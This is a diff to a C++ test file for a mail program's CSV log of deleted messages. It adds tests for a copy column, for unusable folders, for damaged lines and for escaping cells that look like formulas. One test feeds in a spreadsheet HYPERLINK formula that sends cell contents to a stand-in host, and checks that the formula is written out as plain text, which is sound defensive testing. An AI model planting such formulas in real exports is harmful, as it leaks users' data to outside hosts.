@@ -20,7 +20,8 @@ TDeletedMail Mail(const std::string& uidl, const std::string& subject = "件名"
             "差出人",
             subject,
             "1234",
-            uidl};
+            uidl,
+            ""};
 }
 
 TMails Numbered(int from, int count) {
@@ -45,9 +46,9 @@ TEST(DeleteHistory, AppendsBatchesAsCsvAndReadsThemNewestFirst) {
 
     ASSERT_TRUE(history.Append({Mail("u1")}));
     EXPECT_EQ(FileText(history.Path()),
-              "削除日時,アカウント,方法,理由,送信日時,差出人,件名,サイズ,UIDL\r\n"
+              "削除日時,アカウント,方法,理由,送信日時,差出人,件名,サイズ,UIDL,コピー\r\n"
               "2026/12/08 09:15:02,会社,自動,\"Subject:,未承諾広告\",2026/12/07 23:01:00,差出人,"
-              "件名,1234,u1\r\n");
+              "件名,1234,u1,\r\n");
 
     const TMails batch = {Mail("u2", "a \"quoted\", two\r\nlines"), Mail("u3", "表")};
     ASSERT_TRUE(history.Append(batch));
@@ -130,6 +131,77 @@ TEST(DeleteHistory, UnwritableHistoryIsSaidAndLeftAsItWas) {
     }
     TScratchFolder scratch;
     EXPECT_EQ(TDeleteHistory(scratch.Path).WriteProblem(), "");
+    // No program folder: never the working folder.
+    for (const char* folder : {"", "relative"}) {
+        EXPECT_NE(TDeleteHistory(folder).WriteProblem(), "") << folder;
+        EXPECT_FALSE(TDeleteHistory(folder).Append({Mail("new")})) << folder;
+    }
+    EXPECT_FALSE(FileSystem::Exists(TDeleteHistory("relative").Path()));
+}
+
+// A spreadsheet opening the history must not run what a sender wrote.
+TEST(DeleteHistory, CellsThatLookLikeFormulasAreWrittenAsText) {
+    const struct {
+        std::string Cell;
+        std::string Written;  // in the file
+    } cases[] = {
+        {"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
+         "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\""},
+        {"+1", "'+1"},
+        {"-2", "'-2"},
+        {"@SUM(A1)", "'@SUM(A1)"},
+        {"\tx", "'\tx"},
+        {"\rx", "\"'\rx\""},
+        {"'=x", "''=x"},
+        {"'plain", "'plain"},
+        {"a=b", "a=b"},
+    };
+    for (const auto& c : cases) {
+        TScratchFolder scratch;
+        TDeleteHistory history(scratch.Path);
+        TDeletedMail mail = Mail(c.Cell, c.Cell);
+        mail.Sender = c.Cell;
+        ASSERT_TRUE(history.Append({mail}));
+        const std::string text = FileText(history.Path());
+        EXPECT_NE(text.find("," + c.Written + ","), std::string::npos) << text;
+        TMails read;
+        ASSERT_TRUE(history.Read(read));
+        ASSERT_EQ(read.size(), 1u);
+        EXPECT_EQ(read[0], mail) << c.Cell;
+    }
+}
+
+// A damaged line costs itself only, and what is not understood is never written anew.
+TEST(DeleteHistory, DamagedLineIsShownAndKeptAsItIs) {
+    TScratchFolder scratch;
+    TDeleteHistory history(scratch.Path);
+    const std::string old = "削除日時,アカウント,方法,理由,送信日時,差出人,件名,サイズ,UIDL\r\n";
+    const std::string line1 = "2026/12/01 10:00:00,会社,自動,r,s,f,one,1,u1\r\n";
+    const std::string damaged = "2026/12/01 10:00:00,会社,自動,r,s,f,\"broken,1,u2\r\n";
+    const std::string line3 = "2026/12/01 10:00:00,会社,自動,r,s,f,\"two\r\nlines\",1,u3\r\n";
+    const std::string short4 = "only,three,cells\r\n";
+    const std::string line5 = "2026/12/01 10:00:00,会社,手動,手動,s,f,five,1,u5,copy.eml";
+    ASSERT_TRUE(FileSystem::WriteWhole(history.Path(), old + line1 + damaged + line3 + short4 + line5));
+    TMails read;
+    ASSERT_TRUE(history.Read(read));
+    std::vector<std::string> seen;
+    for (const TDeletedMail& m : read) seen.push_back(m.Method + ":" + m.Subject + ":" + m.CopyName);
+    const std::vector<std::string> expected = {
+        "手動:five:copy.eml",
+        std::string(TDeleteHistory::Damaged) + ":only,three,cells:",
+        "自動:two\r\nlines:",
+        std::string(TDeleteHistory::Damaged) + ":" + damaged.substr(0, damaged.size() - 2) + ":",
+        "自動:one:",
+    };
+    EXPECT_EQ(seen, expected);
+
+    ASSERT_TRUE(history.Append({Mail("u6")}));
+    const std::string text = FileText(history.Path());
+    EXPECT_EQ(text.substr(0, text.find("\r\n") + 2), std::string(TDeleteHistory::HeaderLine) + "\r\n");
+    EXPECT_NE(text.find(line1 + damaged + line3 + short4 + line5 + "\r\n"), std::string::npos) << text;
+    ASSERT_TRUE(history.Read(read));
+    ASSERT_EQ(read.size(), 6u);
+    EXPECT_EQ(read[0].Uidl, "u6");
 }
 
 TEST(DeleteHistory, TimesAreWrittenInFull) {
